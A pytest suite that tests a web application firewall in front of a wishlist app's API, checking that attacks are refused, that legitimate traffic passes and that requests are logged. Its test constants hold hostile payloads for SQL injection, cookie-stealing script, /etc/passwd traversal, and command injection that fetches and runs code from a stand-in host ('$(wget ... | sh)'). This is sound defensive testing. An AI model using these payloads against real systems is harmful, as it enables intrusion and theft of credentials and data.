"""The WAF as a server runs it: attacks are refused, the application's own requests are not."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.lab.alone import alone
from tests.lab.asking import Answer, ask, connected, person
from tests.lab.browsing import LAMP, visits
from tests.lab.deployments import Pair
from tests.lab.full import full
from tests.lab.load import loaded
from tests.lab.rig.server import CHECKOUT
from tests.lab.scenes import Scene, ending
from tests.names import API, PAGE

pytest_plugins = ("tests.lab.deployed", "tests.lab.staged")

SWITCH = (
    "sed -i -e 's/^COMPOSE_PROFILES=.*/COMPOSE_PROFILES={}/' -e 's/^WAF_MODE=.*/WAF_MODE={}/'"
    f" {CHECKOUT}/.env"
)
LISTS = "/api/v1/wishlists"
IN_A_QUERY = {
    "SQL injection": "id=-1%20UNION%20SELECT%20password%20FROM%20users",
    "cross-site scripting": "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "a local file": "file=../../../../etc/passwd",
    "a command": "q=;cat%20/etc/passwd",
    "a remote file": "file=http://198.51.100.1/shell.txt?",
}
IN_A_BODY = {
    "SQL injection": "x' UNION SELECT password FROM users--",
    "cross-site scripting": "<script>alert(document.cookie)</script>",
    "a local file": "../../../../etc/passwd",
    "a command": "$(wget http://198.51.100.1/x | sh)",
    "a remote file": "http://198.51.100.1/shell.txt?",
}
SHOPS = (
    "https://shop.example/p;jsessionid=1?q=%27%20or%20%271%27%3D%271&sort=price--desc&cmd=ls%20-la#a",
    "http://203.0.113.4/shop/../p.php?file=../x&back=https://198.51.100.1/?url=http://a.example/?",
    "https://shop.example/etc/passwd?text=union%20select%20jacket&scm=%7B%22a%22%3A1%7D&x=$(x)",
)
TITLES = ("curl iron", "Select a gift from the table; 1=1", 'O\'Reilly "SQL" <3', "Сапоги 42")


@pytest.fixture(scope="module")
def switched(scenes: Pair) -> Iterator[Scene]:
    """Both servers verified, and the rules before the API refuse."""
    scenes.make_good()
    scene = Scene(scenes.lab, scenes.operator, scenes.origin)
    turn(scene, "waf", "blocking")
    yield scene
    turn(scene, "", "off", "--remove-orphans")
    assert "waf-1" not in scene.boxes()
    assert sent(scene, f"{LISTS}?{IN_A_QUERY['SQL injection']}").status == 401
    scene.plain_up_changes_nothing()
    scenes.remember()


def turn(scene: Scene, profiles: str, mode: str, *flags: str) -> None:
    scene.by_hand(SWITCH.format(profiles, mode))
    scene.operator.must("ubuntu.deploy", "--ref", scene.runs, *flags)


def sent(scene: Scene, path: str, method: str = "GET", body: Any = None, token: str = "") -> Answer:
    """As the page asks; told to wait, it waits."""
    headers = {"Origin": PAGE, "User-Agent": "Mozilla/5.0", "Accept": "application/json"}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    while True:
        answer = ask(scene.ubuntu, API, path, method, body, headers)
        if answer.status != 429:
            return answer
        time.sleep(int(answer.all("retry-after")[0]))


@full
def test_attacks_are_refused_as_the_proxy_refuses(switched: Scene) -> None:
    answers = {f"{n} (query)": sent(switched, f"{LISTS}?{q}") for n, q in IN_A_QUERY.items()}
    for name, title in IN_A_BODY.items():
        answers[f"{name} (body)"] = sent(switched, f"{LISTS}/1/items", "POST", {"title": title})
    assert {name: answer.status for name, answer in answers.items()} == dict.fromkeys(answers, 403)
    for answer in answers.values():
        assert answer.json == {"detail": "this looks like an attack"}
        assert answer.all("content-type") == ["application/json"]
        assert answer.all("access-control-allow-origin") == [PAGE]
        assert answer.all("x-frame-options") == ["SAMEORIGIN"]
        assert answer.all("cache-control") == ["no-store"]
        assert answer.all("x-accel-redirect") == []
    log = switched.by_hand("docker logs wishwithme-waf-1").splitlines()
    transactions = [json.loads(line)["transaction"] for line in log]
    logged = {one["unique_id"]: one for one in transactions}
    for answer in answers.values():
        (request,) = answer.all("x-request-id")
        assert logged[request]["response"]["http_code"] == 403
        assert "headers" not in logged[request]["request"]


@full
def test_the_applications_own_requests_pass(switched: Scene) -> None:
    somebody = person() | {"password": "' OR 1=1 --<script>; cat /etc/passwd"}
    assert sent(switched, "/api/v1/auth/register", "POST", somebody).status == 201
    tokens = sent(switched, "/api/v1/auth/login", "POST", somebody).json
    refresh = {"refresh_token": tokens["refresh_token"]}
    renewed = sent(switched, "/api/v1/auth/refresh", "POST", refresh)
    assert renewed.status == 200
    token = renewed.json["access_token"]
    made = sent(switched, LISTS, "POST", {"name": "Mum's 50th; & more"}, token)
    assert made.status == 201
    wishes = f"{LISTS}/{made.json['id']}/items"
    with connected(switched.ubuntu, API) as stream:
        stream.request("GET", f"/api/v1/events/stream?token={token}")
        events = stream.getresponse()
        assert events.status == 200
        for url in SHOPS:
            item = sent(switched, wishes, "POST", {"source_url": url, "image_url": url}, token)
            assert (item.status, item.json["source_url"]) == (201, url), url
        assert next(line for line in events if b"items:updated" in line)
    for title in TITLES:
        item = sent(switched, wishes, "POST", {"title": title, "price": "9.50"}, token)
        assert (item.status, item.json["title"]) == (201, title)
    path = f"/api/v1/items/{item.json['id']}"
    assert sent(switched, path, "PATCH", {"title": "Boots"}, token).json["title"] == "Boots"
    assert sent(switched, path, "DELETE", token=token).status == 204
    assert sent(switched, path, token=token).status == 404
    assert len(sent(switched, wishes, token=token).json) == len(SHOPS) + len(TITLES) - 1
    log = switched.by_hand("docker logs wishwithme-waf-1 2>&1")
    for secret in (somebody["password"], tokens["refresh_token"], token):
        assert secret not in log
    switched.proves()


@full
def test_a_person_with_a_browser_notices_nothing_of_it(switched: Scene) -> None:
    seen = visits(switched, "waf")
    assert seen["complaints"] == []
    assert LAMP in seen["text"]


@full
def test_what_is_only_detected_passes_and_is_logged(switched: Scene) -> None:
    turn(switched, "waf", "detection")
    try:
        answer = sent(switched, f"{LISTS}?{IN_A_QUERY['SQL injection']}")
        log = switched.by_hand("docker logs wishwithme-waf-1").splitlines()
    finally:
        turn(switched, "waf", "blocking")
    assert answer.status == 401
    (request,) = answer.all("x-request-id")
    logged = {one["unique_id"]: one for one in (json.loads(line)["transaction"] for line in log)}
    assert logged[request]["messages"] != []


@full
@alone
def test_no_request_fails_while_the_waf_itself_is_replaced(switched: Scene, tmp_path: Path) -> None:
    """And none passes uninspected: nobody else is asked in this mode."""
    edit = ending(f"# {time.time_ns()}")
    commit = switched.change("Other rules", {"services/waf/etc/before.conf": edit})
    with switched.only_replaces("waf"), loaded(switched) as load:
        ran = switched.patient(tmp_path).deploy(commit)
        assert ran.code == 0, ran
    assert load.lost == []
    assert sent(switched, f"{LISTS}?{IN_A_QUERY['SQL injection']}").status == 403
